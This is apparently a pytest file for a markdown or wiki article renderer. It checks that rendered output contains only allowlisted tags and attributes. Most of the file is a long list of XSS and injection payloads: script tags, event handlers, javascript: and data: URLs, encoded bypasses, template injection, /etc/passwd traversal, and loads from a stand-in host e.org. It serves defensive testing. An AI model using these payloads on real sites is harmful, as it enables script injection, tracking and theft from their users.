"""Texts that try to run a script, load something from elsewhere or leave their place, wherever a text can stand."""

import re
from dataclasses import replace

import pytest

from articles.shared import Party, Source
from tests.rendering.builders import MAP, elements, rendered

ATTACKS = (
    "<script>alert(1)</script>",
    "</p><script src=//e.org/x.js></script>",
    "<ScRiPt>alert(1)</sCrIpT >",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    '" style="position:fixed;inset:0',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><a xlink:href=javascript:alert(1)>x</a></svg>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">x</math>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<iframe srcdoc="<script>alert(1)</script>">',
    "<iframe src=javascript:alert(1)>",
    "<object data=data:text/html,x>",
    "<embed src=//e.org/x>",
    '<base href="https://e.org/">',
    "<link rel=stylesheet href=//e.org/x.css>",
    "<meta http-equiv=refresh content='0;url=//e.org'>",
    "<form action=//e.org><input name=x><button formaction=javascript:alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<style>*{background:url(//e.org)}</style>",
    "<div style=background:url(//e.org)>",
    "<template><script>alert(1)</script></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[><script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;vascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](javascript://e.org/%0aalert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/png;base64,AAAA)",
    "[x](//e.org)",
    "[x](\\\\e.org)",
    "[x](/\\e.org)",
    "[x][y]\n\n[y]: javascript:alert(1) 'z'",
    '[x](https://e.org "a\' onclick=alert(1) b")',
    '[x](https://e.org/"onmouseover=alert(1)//)',
    "<javascript:alert(1)>",
    '<https://e.org/"onclick=alert(1)>',
    "![x](javascript:alert(1))",
    "![x](https://e.org/spy.png)",
    "![x](//e.org/spy.png)",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "![x][y]\n\n[y]: https://e.org/spy.png",
    '![" onerror="alert(1)](image:map)',
    "![x](image:map '\" onerror=\"alert(1)')",
    "![x](image:../../etc/passwd)",
    "[[Mali War|<img src=x onerror=alert(1)>]]",
    '[[" onclick="alert(1)]]',
    '[[Mali War#" onclick="alert(1)]]',
    "[[javascript:alert(1)]]",
    '[@" onclick="alert(1)]',
    '{{figure " onclick="alert(1)}}',
    "{{claim <script>alert(1)</script>}}",
    '[@toll-minusma, "><script>alert(1)</script>]',
    '# " onclick="alert(1)',
    '```" onclick="alert(1)\nx\n```',
    '[^"onclick=alert(1)]\n\n[^"onclick=alert(1)]: x',
    "{{constructor.constructor('alert(1)')()}} {% include '/etc/passwd' %} ${alert(1)}",
    "`<script>alert(1)</script>`",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
)
PLACES = (
    *("{}", "*{}*", "> {}", "- {}", "# {}", "| {} |\n|---|\n| {} |", "a[^1]\n\n[^1]: {}", "~~{}~~ `{}`"),
    *("[{}](https://e.org)", "[x]({})", "[x](<{}>)", "![{}](image:map)", "![x]({})", '![x](image:map "{}")'),
    *("[[{}]]", "[[Mali War|{}]]", "[@{}]", "[@toll-minusma, {}]", "[x]: {}\n\n[x]", "```{}\n```", "<{}>"),
)
ADDRESS = re.compile(r"https?://[^/]|mailto:|#|/wiki/", re.IGNORECASE)
HARMLESS = {
    *("a", "blockquote", "br", "code", "div", "em", "figcaption", "figure", "h2", "img", "li", "ol", "p", "pre", "s"),
    *("section", "small", "span", "strong", "sup", "table", "tbody", "td", "th", "thead", "tr", "ul"),
}
ATTRIBUTES = {
    *("alt", "aria-label", "aria-labelledby", "class", "height", "href", "id", "loading", "rel", "role", "scope"),
    *("src", "start", "tabindex", "title", "width"),
}


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_in_a_text_runs_or_loads_anything(attack):
    for place in PLACES:
        result = rendered(place.replace("{}", attack))

        for element in elements(result.lead + result.sections):
            assert element.tag in HARMLESS
            assert set(element.attrib) <= ATTRIBUTES
            assert ADDRESS.match(element.attrib.get("href", "#"))
            assert element.attrib.get("src", "/media/5f/ab.png") == "/media/5f/ab.png"


@pytest.mark.parametrize(
    "name", ['"><script>alert(1)</script>', "' onclick='alert(1)", "javascript:alert(1)", "{{7*7}}"]
)
def test_names_from_the_library_are_escaped(name):
    result = rendered(
        "[@toll-minusma] ![](image:map)\n\n![](image:map)\n\n[@un-report]",
        records=[
            Party("minusma", name),
            Source("un-report", name),
            replace(MAP, alternative_text=name, caption=name, credit=name, licence=name),
        ],
    )

    for element in elements(result.lead):
        assert element.tag in HARMLESS
        assert set(element.attrib) <= ATTRIBUTES
        assert element.attrib.get("alt", name) == name
